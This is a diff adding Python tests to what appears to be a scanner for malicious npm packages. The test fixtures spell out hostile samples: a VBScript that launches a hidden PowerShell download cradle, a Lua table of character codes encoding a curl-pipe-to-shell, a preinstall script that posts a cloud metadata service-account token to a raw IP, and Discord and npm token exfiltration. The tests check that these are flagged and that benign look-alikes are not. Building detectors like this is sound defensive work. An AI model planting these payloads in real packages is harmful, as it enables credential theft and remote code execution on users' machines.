@@ -1212,3 +1212,73 @@ def test_a_push_permission_in_a_bundle_is_no_git_push():
               "function saveEnv(file) { require('fs').writeFileSync(file, JSON.stringify(process.env)); }\n"
               "module.exports = { branch, login, saveEnv };\n")
     assert "code/git-push-exfil" not in rules(run({"index.js": bundle}))
+
+
+def test_a_shipped_vbscript_that_install_code_copies_out_and_that_downloads_and_runs_code():
+    # (blind set 50's shortcut "repair": the postinstall copies launch.vbs to %LOCALAPPDATA% and points the user's
+    # browser shortcuts at it; the script starts the browser and, once a day, a hidden PowerShell download cradle)
+    vbs = ('Set sh = CreateObject("WScript.Shell")\nsh.Run """" & WScript.Arguments(0) & """", 1, False\n'
+           'sh.Run "powershell -NoP -W Hidden -C ""iex (New-Object Net.WebClient).DownloadString(\'https://pin.example/l.ps1\')""", 0, False\n')
+    repair = ("const fs = require('fs'), path = require('path');\n"
+              "const home = path.join(process.env.LOCALAPPDATA, 'ShortcutPin');\n"
+              "fs.copyFileSync(path.join(__dirname, 'launch.vbs'), path.join(home, 'launch.vbs'));\n")
+    files = {"index.js": "module.exports = {};\n", "lib/repair.js": repair, "lib/launch.vbs": vbs}
+    found = run(files, {"postinstall": "node lib/repair.js"})
+    planted = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert planted.file == "lib/launch.vbs" and planted.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # The same launcher without the cradle (it only starts the application), or the cradle in a script nothing installs
+    # (an example the README points to): no finding.
+    files["lib/launch.vbs"] = 'Set sh = CreateObject("WScript.Shell")\nsh.Run """" & WScript.Arguments(0) & """", 1, False\n'
+    assert decide(run(files, {"postinstall": "node lib/repair.js"})).level is Level.CLEAN
+    files.update({"lib/launch.vbs": vbs, "lib/repair.js": "module.exports = () => 'nothing copied';\n"})
+    assert "install-script/fetch-and-execute" not in rules(run(files, {"postinstall": "node lib/repair.js"}))
+
+
+def test_a_lua_table_of_character_codes_that_spells_a_download_and_run():
+    # (blind set 50's Hammerspoon Spoon: a timer runs `sh -c` on a string.char table the install script copies into
+    # ~/.hammerspoon/Spoons)
+    command = "curl -fsSL https://spoons.example/u/$(whoami)/sync.sh | /bin/sh"
+    lua = ("local obj = {}\nlocal function _s(t) local r = {} for i = 1, #t do r[i] = string.char(t[i]) end return table.concat(r) end\n"
+           "local _c = {" + ",".join(str(ord(c)) for c in command) + "}\n"
+           "function obj:start() hs.timer.doEvery(10800, function() hs.task.new('/bin/sh', nil, {'-c', _s(_c)}):start() end) end\n"
+           "return obj\n")
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const dest = path.join(os.homedir(), '.hammerspoon', 'Spoons', 'WindowGrid.spoon');\n"
+               "fs.copyFileSync(path.join(__dirname, 'WindowGrid.spoon', 'init.lua'), path.join(dest, 'init.lua'));\n")
+    files = {"index.js": "module.exports = 1;\n", "install.js": install, "WindowGrid.spoon/init.lua": lua}
+    found = run(files, {"postinstall": "node install.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "WindowGrid.spoon/init.lua" and decide(found).level is Level.MALICIOUS
+    # A table of character codes that spells an alert's text: nothing to run.
+    greeting = "Window grid loaded: use ctrl+alt+arrows to move windows"
+    files["WindowGrid.spoon/init.lua"] = ("local _c = {" + ",".join(str(ord(c)) for c in greeting) + "}\n"
+                                          "hs.alert.show(string.char(table.unpack(_c)))\n")
+    assert decide(run(files, {"postinstall": "node install.js"})).level is Level.CLEAN
+
+
+def test_a_hook_script_that_sends_the_metadata_servers_token_away():
+    # (blind set 50's Cloud Functions loader: its preinstall reads the build service account's token from the metadata
+    # server and posts it, with a minted key, to a raw IP)
+    script = ('#!/bin/sh\nMD="http://metadata.google.internal/computeMetadata/v1"\n'
+              'TOKEN=$(curl -s -H "Metadata-Flavor: Google" "$MD/instance/service-accounts/default/token")\n'
+              'curl -s -X POST "http://203.0.113.61:8080/r" --data-binary "{\\"t\\":\\"$TOKEN\\"}"\n')
+    from npmward.analyzers.install_script_analyzer import InstallScriptAnalyzer
+
+    manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"preinstall": "sh scripts/preinstall.sh"}}
+    files = {"package.json": json.dumps(manifest).encode(), "scripts/preinstall.sh": script.encode()}
+    found = list(InstallScriptAnalyzer().analyze(AnalysisContext(artifact=Artifact(PackageId("pkg", "1.0.0"), files, manifest, "test"))))
+    assert "install-script/sends-secrets" in rules(found) and decide(found).level is Level.MALICIOUS
+
+
+def test_a_messengers_own_token_sent_to_its_api_is_a_notifier():
+    # (blind set 50's look-alike: a CI step posting the build's result with the user's TELEGRAM_BOT_TOKEN; a stealer's
+    # Discord token to a webhook, or the bot token beside the npm token, is still sent away)
+    notifier = ("const token = process.env.TELEGRAM_BOT_TOKEN, chat = process.env.TELEGRAM_CHAT_ID;\n"
+                "fetch(`https://api.telegram.org/bot${token}/sendMessage`, {method: 'POST', "
+                "body: JSON.stringify({chat_id: chat, text: 'build passed'})});\n")
+    assert "code/token-exfiltration" not in rules(run({"index.js": notifier}))
+    webhook = ("const t = process.env.DISCORD_TOKEN;\n"
+               "fetch('https://discord.com/api/webhooks/123/FAKE', {method: 'POST', body: JSON.stringify({content: t})});\n")
+    assert "code/token-exfiltration" in rules(run({"index.js": webhook}))
+    both = notifier.replace("text: 'build passed'", "text: process.env.NPM_TOKEN")
+    assert "code/token-exfiltration" in rules(run({"index.js": both}))
